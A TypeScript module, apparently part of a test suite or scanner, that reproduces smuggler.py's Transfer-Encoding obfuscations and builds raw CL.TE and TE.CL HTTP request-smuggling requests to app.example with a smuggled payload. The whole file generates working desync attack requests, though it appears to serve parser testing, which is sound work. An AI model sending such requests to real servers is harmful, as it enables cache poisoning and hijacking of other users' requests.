/**
 * The mutations of PortSwigger's smuggler.py: a Transfer-Encoding that one server sees and another does not, beside a
 * Content-Length, in an attack either way (CL.TE and TE.CL).
 */
import { ID, SMUGGLED } from './case.ts';

/** One attack. */
export interface Attack {
  readonly kind: 'CL.TE' | 'TE.CL';
  readonly line: string;
  readonly name: string;
  readonly bytes: string;
}

const TE = 'Transfer-Encoding';

/** Where an odd byte can stand in the line. */
const PLACES: readonly ((byte: string) => string)[] = [
  (byte) => `${TE}:${byte}chunked`,
  (byte) => `${TE}${byte}: chunked`,
  (byte) => `${byte}${TE}: chunked`,
  (byte) => `${TE}: chunked${byte}`,
  (byte) => `X: X${byte}${TE}: chunked`,
  (byte) => `${TE}: chunked${byte}X: X`,
  (byte) => `X: X\r${byte}${TE}: chunked`,
  (byte) => `X: X${byte}\n${TE}: chunked`,
  (byte) => `${TE}: chunked\r${byte}X: X`,
  (byte) => `${TE}: chunked${byte}\nX: X`,
];

/** What smuggler.py writes out by name. */
const NAMED: readonly string[] = [
  `X: X\r\n ${TE}: chunked`,
  `${TE}:\tchunked`,
  `${TE}\t:\tchunked`,
  `${TE} : chunked`,
  ` ${TE}: chunked`,
  `${TE}: xchunked`,
  `${TE}: chunked, identity`,
  `${TE}: identity, chunked`,
  `${TE}: chunked, cow`,
  `${TE}: "chunked"`,
  `${TE}: 'chunked'`,
  `${TE}:chunked`,
  `${TE}:\r\n chunked`,
  `${TE}:\n chunked`,
  `${TE}\r\n: chunked`,
  `${TE}: chunk`,
  `${TE}: CHUNKED`,
  'TRANSFER-ENCODING: chunked',
  'transfer-encoding: chunked',
  'Transfer_Encoding: chunked',
  'Transfer Encoding: chunked',
  'X-Transfer-Encoding: chunked',
  `${TE}: chunked;q=0.5`,
  `Connection: ${TE}\r\n${TE}: chunked`,
  `Foo: bar\r\n\r${TE}: chunked`,
  `Content-Encoding: chunked`,
  `TE: chunked`,
  `${TE}:  chunked`,
  `${TE}: ,chunked`,
  `${TE}: chunked,`,
  `${TE}: identity`,
];

/** The bytes of smuggler.py's default set. */
const DEFAULT_BYTES = [0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff];

function inPlaces(bytes: readonly number[]): string[] {
  return bytes.flatMap((byte) => PLACES.map((place) => place(String.fromCharCode(byte))));
}

/** The lines of the default set, of the exhaustive one (every byte), and every two of the named ones together. */
export function lines(): { readonly default: string[]; readonly exhaustive: string[]; readonly doubles: string[] } {
  const all = Array.from({ length: 256 }, (_, byte) => byte);
  return {
    default: [...NAMED, ...inPlaces(DEFAULT_BYTES)],
    exhaustive: inPlaces(all.filter((byte) => !DEFAULT_BYTES.includes(byte))),
    doubles: NAMED.flatMap((one) => NAMED.map((other) => `${one}\r\n${other}`)),
  };
}

/** Both attacks with such a line, the Content-Length behind it or in front. */
export function attacks(line: string): Attack[] {
  const chunk = `${SMUGGLED.length.toString(16)}\r\n`;
  const bodies = [
    ['CL.TE', `0\r\n\r\n${SMUGGLED}`, 5 + SMUGGLED.length],
    ['TE.CL', `${chunk}${SMUGGLED}\r\n0\r\n\r\n`, chunk.length],
  ] as const;
  return bodies.map(([kind, body, length], index) => {
    const fields = [`Content-Length: ${length}`, line];
    if (index === 1) fields.reverse();
    return {
      kind,
      line,
      name: `${kind} ${JSON.stringify(line)}`,
      bytes: `POST /${ID} HTTP/1.1\r\nHost: app.example\r\n${fields.join('\r\n')}\r\n\r\n${body}`,
    };
  });
}
